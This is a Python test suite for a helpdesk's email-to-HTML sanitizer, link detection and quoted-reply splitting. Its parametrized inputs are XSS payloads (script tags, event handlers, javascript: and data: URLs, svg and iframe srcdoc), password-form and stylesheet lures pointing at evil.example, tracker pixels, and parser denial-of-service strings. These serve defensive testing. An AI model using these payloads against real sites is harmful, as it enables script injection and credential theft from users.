"""What of a message may reach a page."""

from __future__ import annotations

import html as html_module
import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from otalink.articles.display import body_of, linked
from otalink.articles.quotes import split_text
from otalink.desk.types import Article, SenderType, StoredAttachment
from tests.support.pace import within

LOGO = StoredAttachment(7, "logo.png", "image/png", "logo@mail", 10)


def article(html: str = "", text: str = "plain words", attachments: tuple[StoredAttachment, ...] = ()) -> Article:
    return Article(
        1, SenderType.CUSTOMER, "a@b.example", "A", "s", text, html, "", (), True, datetime.now(UTC), attachments
    )


def shown(html: str, *attachments: StoredAttachment) -> str:
    return body_of(article(html, attachments=attachments), lambda id_: f"/files/{id_}").html


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser reads them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "html",
    [
        "<p>hi<script>alert(1)</script></p>",
        "<p onclick=alert(1)>hi</p>",
        "<p>hi<img src=x onerror=alert(1)></p>",
        '<p>hi <a href="javascript:alert(1)">x</a></p>',
        '<p>hi <a href="JaVaScRiPt&#58;alert(1)">x</a></p>',
        '<p>hi <a href="data:text/html,<script>alert(1)</script>">x</a></p>',
        "<p>hi</p><svg><script>alert(1)</script></svg>",
        "<p>hi</p><math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<p>hi</p><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<p>hi</p><form action=https://evil.example><input name=password><button>go</button></form>",
        "<p>hi</p><style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
        '<p style="background:url(https://evil.example/x)">hi</p>',
        '<p>hi</p><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
        '<p>hi</p><img title="<img src=x onerror=alert(1)>">',
        '<p title="<h1 onclick=alert(1)>">hi</p><a title=\'<img x="\' href="https://ok.example">y</a>',
        "<p>hi</p><object data=x></object><embed src=x><video src=https://evil.example/v></video>",
    ],
)
def test_nothing_a_sender_writes_can_run_or_load_anything(html: str) -> None:
    elements = Elements(shown(html)).found
    assert "hi" in shown(html)
    for tag, attributes in elements:
        assert tag in {"div", "p", "a", "img", "b"}
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "srcdoc", "action"}]
        assert re.match(r"https://ok\.example$", attributes.get("href") or "https://ok.example")
        assert not attributes.get("src")


@given(st.text(alphabet="<>/\"='&; abiImgsrc:hH1onx!-"))
def test_whatever_the_markup_no_handler_and_no_remote_picture_survives(noise: str) -> None:
    for tag, attributes in Elements(shown(f"<p>hi</p>{noise}<img src=https://evil.example onerror=x>")).found:
        assert tag != "script"
        assert not [name for name in attributes if name.startswith("on")]
        assert not (tag == "img" and attributes.get("src"))


def test_pictures_from_elsewhere_are_left_out() -> None:
    page = shown('<p>hi</p><img src="https://tracker.example/pixel.gif" alt="offer"><img src="//tracker.example/x">')
    assert "tracker" not in page


def test_a_picture_within_the_mail_is_shown_from_its_attachment_and_not_listed_again() -> None:
    body = body_of(article('<p>See <img src="cid:logo@mail" alt="Logo"></p>', attachments=(LOGO,)), lambda i: f"/f/{i}")
    assert '<img src="/f/7" alt="Logo">' in body.html
    assert body.inline == {7}


def test_a_mail_that_is_one_picture_is_shown_as_that_picture() -> None:
    assert "/files/7" in shown('<img src="cid:logo@mail">', LOGO)


def test_addresses_without_a_host_lead_nowhere() -> None:
    assert "href" not in shown('<p>hi <a href="/sign-out">x</a> <a href="//evil.example">y</a> <a href="x">z</a></p>')


def test_an_attachment_that_could_run_is_no_picture() -> None:
    drawing = StoredAttachment(8, "x.svg", "image/svg+xml", "drawing", 10)
    body = body_of(article('<p>hi <img src="cid:drawing"></p>', attachments=(drawing,)), lambda i: f"/f/{i}")
    assert "/f/8" not in body.html
    assert body.inline == frozenset()


def test_a_picture_without_description_gets_an_empty_one() -> None:
    assert '<img alt src="/files/7">' in shown('<p>x<img src="cid:logo@mail"></p>', LOGO)


def test_links_tell_the_other_side_nothing() -> None:
    page = shown('<a href="https://ok.example/a?b=1&c=2">ok</a>')
    assert 'rel="noopener noreferrer nofollow"' in page
    assert 'href="https://ok.example/a?b=1&amp;c=2"' in page


def test_headings_of_a_mail_do_not_become_headings_of_the_page() -> None:
    page = shown("<h1>Big</h1><h3>Small</h3>")
    assert "<h" not in page
    assert "Big" in page


def test_html_that_shows_nothing_gives_way_to_the_text() -> None:
    assert "plain words" in shown("<html><head><title>x</title></head><body><p> </p></body></html>")


def test_two_thousand_links_are_quick_in_html_and_in_text() -> None:
    many = "".join(f'<p>See <a href="https://example.com/{n}">item {n}</a></p>' for n in range(2_000))
    text = " ".join(f"https://example.com/{n}" for n in range(2_000))
    pages = within(1, lambda: (shown(many), linked(text)))
    assert [page.count("<a ") for page in pages] == [2_000, 2_000]


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000 + "deep",
        "".join(f"<font size={n}>" for n in range(20_000)) + "<p>x" * 20_000,
        "".join(f"<font size={n}>" for n in range(90)) + "<p>x" * 10_000,
        "<" * 500_000,
        "<a href='" * 50_000,
        "<!--" * 100_000,
        "<p>hi" + "&" * 500_000,
        "hi" + "<span></x>" * 90_000,
        "</x>" * 20_000 + "".join(f"<font size={n}>" for n in range(20_000)) + "<p>x" * 20_000,
        "".join(f"<font size={n}><table><td></font></table>" for n in range(10_000)) + "<p>x" * 20_000,
        "<svg>" + "<td>" * 50_000 + "</x>" * 50_000,
        "<b " + "/".join(map(hex, range(140_000))) + ">hi",
        "<b " + "='>' ".join(map(hex, range(90_000))) + ">hi",
        "<b x='<!--'>" + "<style>" * 100_000 + "</style" * 30_000,
        "<i>" * 1_000 + "</x>" * 200_000,
        "<table>" + "<td><b>x" * 100_000,
        "hi" + "&" * 900_000,
        "hi" + "&a;" * 300_000,
        "hi<a href='" + "&" * 900_000 + "'>x</a>",
    ],
    ids=[
        *("deep", "repeating", "just below the limit", "brackets", "quotes", "comments", "entities"),
        *("stray ends", "stray ends first", "ends out of reach", "foreign", "attributes", "quoted brackets"),
        *("styles", "ends without start", "cells", "ampersands", "references", "quoted ampersands"),
    ],
)
def test_hostile_html_is_quick_too(html: str) -> None:
    within(2.5, lambda: shown(html))


@pytest.mark.parametrize(
    "text", ["https://" * 100_000, ">" * 1_000_000, "> \n" * 300_000, "(" * 1_000_000, "https://a" + "." * 1_000_000]
)
def test_hostile_text_is_quick_too(text: str) -> None:
    within(5, lambda: body_of(article(text=text), str))


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("See https://example.com/a.", "https://example.com/a"),
        ("(https://example.com/a)", "https://example.com/a"),
        ("https://example.com/a_(b), and", "https://example.com/a_(b)"),
        ("<https://example.com/?a=1&b=2>", "https://example.com/?a=1&b=2"),
        ("http://localhost:8000/x?!", "http://localhost:8000/x"),
    ],
)
def test_addresses_in_text_are_clickable_without_the_punctuation_around_them(text: str, address: str) -> None:
    assert Elements(linked(text)).found == [("a", {"href": address, "rel": "noopener noreferrer nofollow"})]


@given(st.text())
def test_text_is_shown_as_it_is_and_nothing_of_it_is_markup(text: str) -> None:
    page = linked(text)
    assert html_module.unescape(re.sub(r"</?a[^>]*>", "", page)) == text
    assert all(tag == "a" for tag, _ in Elements(page).found)


@pytest.mark.parametrize(
    ("text", "fresh"),
    [
        ("Thanks!\n\nOn Mon, 2 Nov 2026, Desk wrote:\n> Is it plugged in?\n> Best", "Thanks!"),
        ("Thanks!\n\nOn Mon, 2 Nov 2026, Desk\n<desk@example.com> wrote:\n> Is it?", "Thanks!"),
        ("Danke!\n\nAm 2.11.2026 schrieb Desk:\n> Ist es an?\n\n", "Danke!"),
        ("Yes.\n\n-----Original Message-----\nFrom: Desk\nSent: today\n\nWhy?", "Yes."),
        ("Ja.\n\nVon: Desk\nGesendet: 2.11.2026\nAn: Ann\nBetreff: x\n\nWarum?", "Ja."),
        ("no quote at all", "no quote at all"),
        ("> quoted first\nanswer below", "> quoted first\nanswer below"),
        ("> only a quote", "> only a quote"),
        ("", ""),
    ],
)
def test_the_history_below_an_answer_is_set_apart(text: str, fresh: str) -> None:
    assert split_text(text)[0] == fresh


@given(st.text(alphabet=">ab: \nOnFrom"))
def test_no_line_is_lost_when_the_history_is_set_apart(text: str) -> None:
    fresh, quoted = split_text(text)
    assert "".join((fresh + quoted).split()) == "".join(text.split())
